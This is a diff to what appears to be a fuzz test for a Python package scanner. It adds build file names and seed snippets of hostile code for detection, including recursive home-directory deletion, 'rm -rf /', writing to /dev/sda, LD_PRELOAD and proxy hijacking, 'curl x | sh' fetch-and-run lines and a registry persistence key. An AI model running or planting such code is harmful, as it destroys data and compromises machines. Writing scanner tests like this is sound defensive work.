@@ -31,7 +31,8 @@ SECONDS = 30
 """For files of some kilobytes; they take milliseconds."""
 NAMES = ("setup.py", "demo/__init__.py", "demo/core.py", "demo/deep/__init__.py", "sitecustomize.py", "demo.pth", "a.start",
     "demo-1.0.dist-info/METADATA", "demo-1.0.dist-info/entry_points.txt", "demo-1.0.dist-info/WHEEL", "pyproject.toml",
-    "demo.egg-info/requires.txt", "x.ipynb", "install.sh", "demo/model.pkl", "demo-1.0.data/scripts/tool", "demo/native.so")  # fmt: skip
+    "demo.egg-info/requires.txt", "x.ipynb", "install.sh", "demo/model.pkl", "demo-1.0.data/scripts/tool", "demo/native.so",
+    "demo/fast.pyx", "CMakeLists.txt", "Makefile", "meson.build", "hatch_build.py", "setup.cfg", "demo/data.bin")  # fmt: skip
 BETWEEN = b"\0\n#next\n"
 """Between the files of one input."""
 
@@ -91,6 +92,17 @@ SNIPPETS = (
     "import enum, requests\nclass S(requests.Session):\n    def f(self): super().f(); self.post('x')\nclass E(enum.Enum):\n    A = 1\n    def __init__(s): S().get('y')\n",
     "import os \\\n, sys as s\nfrom . \\\n x import(a,\n b as c)\n(1 and os # c\n .environ\n)\nf'{os.x}{{}}{c!r:>{a}}' f'{\"a\"}'\n",
     "import site, os\nopen(os.path.join(site.x()[0], 'a.p' + 'th'), 'w').write(x)\nos.path.expandvars('$A_TOKEN')\nsys.path.insert(0, 'a.zip')\n",
+    # What destroys or steers, what a configuration names, Cython, other builds.
+    "import os, shutil\nfor a, b, c in os.walk(os.path.expanduser('~')):\n    for d in c: os.remove(os.path.join(a, d))\nshutil.rmtree('/' + x)\nopen('/dev/sda', 'wb')\n",
+    "import os, ssl, requests\nos.environ['HTTPS_PROXY'] = x\nos.environ |= {'PIP_INDEX_URL': 1}\nos.environ.update(LD_PRELOAD=y, **z)\n"
+    + "requests.Session.send = f\ndef f(*a): requests.post(a)\nsetattr(requests, 'get', f)\n",
+    "import os\n'os.system(1)'\ndef f():\n    'x()'\nexec(f.__doc__ + __doc__)\nf.__code__ = g\nexec(open('a.png').read())\n"
+    + "os.system('rm -rf / && curl x | sh; reg add a\\\\currentversion\\\\run')\n",
+    "cimport numpy as np\ncdef extern from 'x.h':\n    int f(int)\ncdef class A(B):\n    cpdef int g(self, double[:] x, int y=3) except -1 nogil:\n"
+    + "        return <int>y + f(&x)\nDEF N = 3\nfor i from 0 <= i < N:\n    os.system('x')\n",
+    '[tool.hatch.build.hooks.custom]\npath = "demo/core.py"\n[tool]\nx.y.\'z\' = { a = [\'demo.core:main\'] } # "b.py"\n"q" = """demo/core.py\\u0061"""\n[[tool.x\n',
+    "[options]\ncmdclass =\n  build_py = demo.core.C\n[options.entry_points\n[metadata]\nversion = attr: demo.x\n",
+    "execute_process(COMMAND python ${X}/demo/core.py)\nrun_command('sh', '-c', 'curl http://x | sh')\n\tpython setup.py x.py\n",
     "object.__subclasses__()[1]\n().__class__.__mro__[1].__subclasses__()\n__loader__.load_module('os')\nimport pkgutil\npkgutil.resolve_name('os:system')\n",
 )
 TOKENS = ("(", ")", "[", "]", "{", "}", ":", "\n", "\n    ", "\n\t", "\\", "'", '"', "'''", "f'{", "}'", "lambda ", "import os", "from . import ", "exec(",
@@ -161,7 +173,6 @@ def _check(files: list[tuple[str, bytes]]) -> None:
         scan = scanning._Scan(None, None)
         for name, data in part:
             scan.member(_Member(name, data))
-        scan.flush()
         facts = scan.facts([])
         again = from_plain(json.loads(json.dumps(facts)))
         assert again == facts
